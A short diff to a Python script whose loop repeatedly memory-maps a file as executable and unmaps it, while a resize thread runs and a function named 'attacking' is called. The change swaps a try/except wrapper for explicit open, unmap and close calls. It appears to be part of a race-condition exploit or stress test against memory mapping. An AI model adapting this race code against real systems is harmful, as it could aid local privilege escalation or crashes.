@@ -119,12 +119,10 @@ def resized():
     threading.Thread(target=resize, daemon=True).start()
     attacking()
     while True:
-        try:
-            libc.munmap(memory(PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, os.open(path, os.O_RDONLY)), PAGE)
-        except OSError:
-            pass
+        fd = os.open(path, os.O_RDONLY | os.O_CREAT)
+        libc.munmap(memory(PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd), PAGE)
+        os.close(fd)
         time.sleep(0.005)
-        os.closerange(10, 200)
 
 
 def many_libraries(count):
